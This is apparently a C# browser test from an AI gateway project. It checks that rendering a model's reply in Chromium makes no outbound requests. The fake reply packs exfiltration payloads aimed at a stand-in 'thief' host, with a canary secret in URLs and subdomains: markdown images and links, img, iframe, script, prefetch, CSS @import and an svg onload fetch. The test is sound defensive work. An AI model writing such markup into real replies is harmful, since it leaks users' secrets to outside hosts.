using Gatehouse.FrontDoor.Tests.Attacks;
using Gatehouse.OpenAiServer;
using Gatehouse.Testing;

namespace Gatehouse.FrontDoor.Tests.Browser;

/// <summary>A reply is read, not loaded: whatever addresses stand in it, showing it asks nobody.</summary>
public sealed class InertReplyTests
{
    [BrowserFact]
    public async Task A_reply_full_of_pictures_and_links_makes_no_request_in_chromium()
    {
        await using var thief = await Thief.StartAsync("pixel.reply.example.com");
        await using var model = await OpenAiServerProcess.StartAsync();
        await using var gatehouse = await Connected.StartAsync(model);
        var secret = Canaries.OfTheLimits.InMemory.ToLowerInvariant();
        var host = $"{secret}.{thief.Host}";
        await model.ReplyAsync(
            new Reply
            {
                Text = $"""
                Here you are.
                ![chart](http://{thief.Host}/1?d={secret}) ![chart][ref] [a link](http://{host}/2) http://{host}/3 <http://{host}/4>
                <img src="http://{host}/5"><iframe src="http://{host}/6"></iframe><script src="http://{host}/7"></script>
                <link rel="prefetch" href="http://{host}/8"><link rel="dns-prefetch" href="//{host}">
                <style>@import url(http://{host}/9);</style><svg onload="fetch('http://{host}/10')"></svg>

                [ref]: http://{host}/11
                That was all.
                """,
            }
        );

        await BrowserScenario.RunAsync(
            "reply-is-inert",
            new Dictionary<string, object?>
            {
                ["loginLink"] = gatehouse.LoginLink,
                ["last"] = "That was all.",
                ["control"] = $"http://{thief.Host}/control",
            }
        );

        // What the scenario loads on purpose at its end shows that it would have come.
        Assert.Equal(["/control"], thief.Requests.Select(request => request.RawTarget).Where(target => target != "/favicon.ico"));
        Assert.Equal(0, Canaries.OfTheLimits.CharactersIn(thief.EverythingReceived()));
        Assert.DoesNotContain(thief.Questions(), name => name.StartsWith(secret, StringComparison.OrdinalIgnoreCase));
    }
}
